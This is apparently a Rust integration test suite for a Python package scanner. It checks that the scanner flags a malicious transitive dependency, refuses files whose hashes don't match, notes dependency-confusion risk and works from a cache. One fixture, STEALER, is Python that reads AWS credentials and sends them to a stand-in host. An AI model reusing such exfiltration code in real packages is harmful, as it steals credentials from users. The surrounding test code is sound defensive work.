//! End-to-end scans by name, requirements file and lockfile against a real
//! package index server (pypiserver) on loopback. `scripts/test.sh`
//! installs the server; nothing leaves the machine.

mod support;

use std::path::Path;
use std::process::Command;

use assert_cmd::prelude::*;
use serde_json::Value;
use support::{Dist, IndexServer, sha256_hex, write};

const STEALER: &str = "import os, urllib.request\n\
creds = open(os.path.expanduser('~/.aws/credentials')).read()\n\
urllib.request.urlopen('https://collect.example/c', data=creds.encode())\n";

fn tidy() -> Dist<'static> {
    Dist {
        name: "tidy",
        version: "1.0",
        requires: &[],
        files: &[("tidy/__init__.py", "def tidy(x):\n    return x.strip()\n")],
    }
}

fn app() -> Dist<'static> {
    Dist {
        name: "app",
        version: "1.0",
        requires: &["helper>=0.1", "tidy"],
        files: &[("app/__init__.py", "import helper\n")],
    }
}

fn helper() -> Dist<'static> {
    Dist {
        name: "helper",
        version: "0.2",
        requires: &[],
        files: &[("helper/__init__.py", STEALER)],
    }
}

/// The index with tidy (sdist and wheel), app (wheel) and helper (wheel).
fn server() -> IndexServer {
    IndexServer::start(&[
        tidy().sdist(),
        tidy().wheel(),
        app().wheel(),
        helper().wheel(),
    ])
}

fn assay(cache: &Path) -> Command {
    let mut cmd = Command::cargo_bin("assay").expect("binary");
    cmd.env_remove("PIP_INDEX_URL")
        .env_remove("PIP_EXTRA_INDEX_URL")
        .env_remove("UV_DEFAULT_INDEX")
        .env_remove("UV_INDEX_URL")
        .env("PIP_CONFIG_FILE", "/dev/null")
        .env("NO_COLOR", "1")
        .args([
            "scan",
            "--format",
            "json",
            "--python-version",
            "3.11",
            "--cache-dir",
        ])
        .arg(cache);
    cmd
}

fn json(output: &std::process::Output) -> Value {
    serde_json::from_slice(&output.stdout).unwrap_or_else(|e| {
        panic!(
            "not JSON ({e}): {}\nstderr: {}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        )
    })
}

fn artifact<'a>(doc: &'a Value, filename_start: &str) -> &'a Value {
    doc["artifacts"]
        .as_array()
        .expect("artifacts")
        .iter()
        .find(|a| {
            a["target"]
                .as_str()
                .is_some_and(|t| t.starts_with(filename_start))
        })
        .unwrap_or_else(|| panic!("no artifact {filename_start} in {doc:#}"))
}

#[test]
fn a_name_scans_its_sdist_and_wheel() {
    let index = server();
    let cache = tempfile::tempdir().unwrap();
    let output = assay(cache.path())
        .args(["--index-url", &index.index_url(), "tidy"])
        .output()
        .unwrap();
    assert_eq!(
        output.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let doc = json(&output);
    let targets: Vec<&str> = doc["artifacts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["target"].as_str().unwrap())
        .collect();
    assert_eq!(targets.len(), 2, "{targets:?}");
    assert!(targets.contains(&"tidy-1.0.tar.gz") && targets.contains(&"tidy-1.0-py3-none-any.whl"));
    for a in doc["artifacts"].as_array().unwrap() {
        assert_eq!(a["verdict"]["label"], "clean");
        let provenance = &a["provenance"];
        assert!(provenance["url"].as_str().unwrap().starts_with(&index.root));
        assert!(
            provenance["required_by"][0]
                .as_str()
                .unwrap()
                .contains("tidy")
        );
    }
}

#[test]
fn a_malicious_transitive_dependency_is_found_and_explained() {
    let index = server();
    let cache = tempfile::tempdir().unwrap();
    let output = assay(cache.path())
        .args(["--index-url", &index.index_url(), "app==1.0"])
        .output()
        .unwrap();
    assert_eq!(
        output.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let doc = json(&output);
    let helper = artifact(&doc, "helper-0.2");
    assert_eq!(helper["verdict"]["label"], "malicious", "{helper:#}");
    let chains = helper["provenance"]["required_by"].to_string();
    assert!(chains.contains("app"), "{chains}");
    assert_eq!(artifact(&doc, "app-1.0")["verdict"]["label"], "clean");
    assert_eq!(artifact(&doc, "tidy-1.0-py3")["verdict"]["label"], "clean");

    // --no-deps: only what was named.
    let output = assay(cache.path())
        .args(["--index-url", &index.index_url(), "--no-deps", "app==1.0"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    assert_eq!(json(&output)["artifacts"].as_array().unwrap().len(), 1);
}

#[test]
fn a_requirements_file_with_a_wrong_hash_is_refused() {
    let index = server();
    let cache = tempfile::tempdir().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let (_, wheel) = tidy().wheel();
    let good = sha256_hex(&wheel);
    let requirements = write(
        dir.path(),
        "requirements.txt",
        &format!(
            "# pinned\napp==1.0\ntidy==1.0 --hash=sha256:{}\n",
            "0".repeat(64)
        ),
    );
    let output = assay(cache.path())
        .args(["--index-url", &index.index_url(), "--all-files"])
        .arg("-r")
        .arg(&requirements)
        .output()
        .unwrap();
    // helper is malicious: 1 wins over the refused downloads.
    assert_eq!(
        output.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let doc = json(&output);
    let tidy_wheel = artifact(&doc, "tidy-1.0-py3");
    assert!(
        tidy_wheel["verdict"].is_null(),
        "a tampered file must not be scanned: {tidy_wheel:#}"
    );
    assert!(
        tidy_wheel["errors"][0]
            .as_str()
            .unwrap()
            .contains("refused")
    );
    assert_eq!(
        artifact(&doc, "helper-0.2")["verdict"]["label"],
        "malicious"
    );

    // The right hash passes.
    let requirements = write(
        dir.path(),
        "requirements.txt",
        &format!("tidy==1.0 --hash=sha256:{good}\n"),
    );
    let output = assay(cache.path())
        .args(["--index-url", &index.index_url()])
        .arg(&requirements)
        .output()
        .unwrap();
    let doc = json(&output);
    assert_eq!(artifact(&doc, "tidy-1.0-py3")["verdict"]["label"], "clean");
}

#[test]
fn a_lockfile_scans_exactly_its_files_and_checks_their_hashes() {
    let index = server();
    let cache = tempfile::tempdir().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let (helper_name, helper_bytes) = helper().wheel();
    let (tidy_name, _) = tidy().sdist();
    let lock = format!(
        "lock-version = \"1.0\"\ncreated-by = \"test\"\n\n\
         [[packages]]\nname = \"helper\"\nversion = \"0.2\"\n\
         wheels = [{{ name = \"{helper_name}\", url = \"{}\", hashes = {{ sha256 = \"{}\" }} }}]\n\n\
         [[packages]]\nname = \"tidy\"\nversion = \"1.0\"\n\
         sdist = {{ name = \"{tidy_name}\", url = \"{}\", hashes = {{ sha256 = \"{}\" }} }}\n",
        index.file_url(&helper_name),
        sha256_hex(&helper_bytes),
        index.file_url(&tidy_name),
        "f".repeat(64),
    );
    let path = write(dir.path(), "pylock.toml", &lock);
    let output = assay(cache.path()).arg(&path).output().unwrap();
    assert_eq!(
        output.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let doc = json(&output);
    assert_eq!(doc["artifacts"].as_array().unwrap().len(), 2, "{doc:#}");
    assert_eq!(
        artifact(&doc, "helper-0.2")["verdict"]["label"],
        "malicious"
    );
    let tidy = artifact(&doc, "tidy-1.0.tar.gz");
    assert!(tidy["verdict"].is_null(), "{tidy:#}");
    assert!(
        tidy["errors"][0].as_str().unwrap().contains("mismatch"),
        "{tidy:#}"
    );
}

#[test]
fn unknown_names_and_versions_are_errors() {
    let index = server();
    let cache = tempfile::tempdir().unwrap();
    for target in ["no-such-package", "tidy==9.9"] {
        let output = assay(cache.path())
            .args(["--index-url", &index.index_url(), target])
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(2), "{target}");
        let doc = json(&output);
        let errors = doc["artifacts"][0]["errors"].to_string();
        assert!(
            errors.contains("no-such-package") || errors.contains("9.9"),
            "{target}: {errors}"
        );
    }
}

#[test]
fn a_name_on_two_indexes_is_a_dependency_confusion_risk() {
    let public = server();
    let private = IndexServer::start(&[tidy().wheel()]);
    let cache = tempfile::tempdir().unwrap();
    let output = assay(cache.path())
        .args(["--index-url", &private.index_url()])
        .args(["--extra-index-url", &public.index_url()])
        .args(["--no-deps", "tidy"])
        .output()
        .unwrap();
    let doc = json(&output);
    let notes = doc["artifacts"][0]["provenance"]["notes"].to_string();
    assert!(notes.contains("dependency-confusion"), "{doc:#}");
}

#[test]
fn a_warm_cache_needs_no_server() {
    let index = server();
    let cache = tempfile::tempdir().unwrap();
    let url = index.index_url();
    let first = assay(cache.path())
        .args(["--index-url", &url, "app==1.0"])
        .output()
        .unwrap();
    assert_eq!(first.status.code(), Some(1));
    drop(index);
    let second = assay(cache.path())
        .args(["--index-url", &url, "app==1.0"])
        .output()
        .unwrap();
    assert_eq!(
        second.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&second.stderr)
    );
    assert_eq!(json(&first)["artifacts"], json(&second)["artifacts"]);

    let clean = Command::cargo_bin("assay")
        .unwrap()
        .args(["cache", "clean", "--cache-dir"])
        .arg(cache.path())
        .output()
        .unwrap();
    assert!(clean.status.success());
    let third = assay(cache.path())
        .args(["--index-url", &url, "app==1.0"])
        .output()
        .unwrap();
    assert_eq!(
        third.status.code(),
        Some(2),
        "after clean, with the server gone, the scan cannot run"
    );
}
